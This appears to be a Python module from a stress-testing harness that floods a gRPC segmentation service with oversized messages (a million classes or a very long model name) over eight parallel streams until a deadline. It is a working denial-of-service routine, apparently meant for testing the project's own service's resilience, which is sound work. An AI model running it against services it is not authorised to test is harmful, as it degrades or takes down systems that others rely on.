"""Options that are as large as a message may be."""

from __future__ import annotations

import asyncio
from functools import cache
from typing import Any

import grpc.aio

from attacks.floods import NO_LIMIT, count_end
from attacks.messages import SEGMENT, max_message, stream_options
from attacks.target import Seen, Target
from edgeseg.v1 import segmentation_pb2 as pb

STREAMS = 8
CLASSES = 1_000_000
BESIDE = 1 << 10
"""Bytes of a message apart from the name."""


@cache
def large_options(size: int) -> list[bytes]:
    """A million classes, and a model's name of `size` characters."""
    many = pb.SegmentationOptions(classes=[1] * CLASSES)
    return [
        stream_options(options=many),
        stream_options(options=pb.SegmentationOptions(model="m" * size)),
    ]


def endless_options(target: Target, until: float, seen: Seen) -> None:
    """Half of the streams send classes, half send a long name."""
    asyncio.run(_all(target, until, seen))


async def _all(target: Target, until: float, seen: Seen) -> None:
    async with grpc.aio.insecure_channel(target.grpc, options=NO_LIMIT) as channel:
        options = large_options(max_message(target) - BESIDE)
        each = (options[number % 2] for number in range(STREAMS))
        await asyncio.gather(*(_one(channel, first, until, seen) for first in each))


async def _one(channel: grpc.aio.Channel, first: bytes, until: float, seen: Seen) -> None:
    while asyncio.get_running_loop().time() < until:
        call: Any = channel.stream_stream(SEGMENT)()
        try:
            async with asyncio.timeout_at(until):
                await call.write(first)
                await call.done_writing()
                await call.read()
        except TimeoutError:
            call.cancel()
            return
        except (grpc.aio.AioRpcError, asyncio.InvalidStateError):
            pass
        await count_end(call, seen)
